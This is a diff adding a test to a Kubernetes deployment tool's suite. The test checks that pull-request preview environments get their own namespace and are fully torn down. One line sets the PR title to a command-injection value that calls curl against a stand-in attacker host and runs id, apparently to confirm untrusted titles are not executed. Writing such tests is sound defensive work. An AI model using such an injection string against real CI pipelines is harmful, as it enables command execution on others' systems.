@@ -150,6 +150,37 @@ describe('kubernetes provider: rolling', () => {
     expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
   })
 
+  it('a pull-request preview gets its own namespace, and teardown removes it with everything in it', async () => {
+    const prNs = `pr-${Math.floor(Math.random() * 1e6)}`
+    const number = Number(prNs.slice(3))
+    writeFiles(ws.dir, { 'k8s/app.yaml': app({ replicas: 1 }) })
+    ws.writeConfig(`version: 1
+environments:
+  preview:
+    pullRequests: true
+    transient: true
+    name: 'pr-{{pr.number}}'
+    timeout: 60s
+    kubernetes: { manifests: k8s, namespace: 'pr-{{pr.number}}', createNamespace: true }
+`)
+    const title = 'feat: $(curl evil.example.com) `id`'
+    const payload = { action: 'opened', number, pull_request: { number, title, state: 'open', head: { ref: 'feature/x', sha: 'abc1234def' }, base: { ref: 'main' } } }
+    const prEnv = { GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: `refs/pull/${number}/merge` }
+    const rt = await ws.run(deploy, { image: image('v1') }, { ...env(), ...prEnv }, payload)
+    expect(rt.failed).toBeUndefined()
+    expect(rt.outputs.environment).toBe(prNs)
+    const d = getJson('deployment', 'web', prNs)!
+    expect(d.status.availableReplicas).toBe(1)
+    expect(d.metadata.annotations['glidepath.dev/ref']).toBe('refs/heads/feature/x')
+    expect(d.metadata.annotations['glidepath.dev/sha']).toBe('abc1234def')
+    const closed = { ...payload, action: 'closed', pull_request: { ...payload.pull_request, state: 'closed' } }
+    const td = await ws.run(deploy, { teardown: 'true' }, { ...env(), ...prEnv }, closed)
+    expect(td.failed).toBeUndefined()
+    const gone = getJson('namespace', prNs, prNs)
+    expect(gone === null || gone.status.phase === 'Terminating').toBe(true)
+    expect(getJson('configmap', `glidepath-${prNs}`, prNs)).toBeNull()
+  })
+
   it('bad input changes nothing: an image of another repository, a manifest path outside the workspace', async () => {
     writeFiles(ws.dir, { 'k8s/app.yaml': app() })
     config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
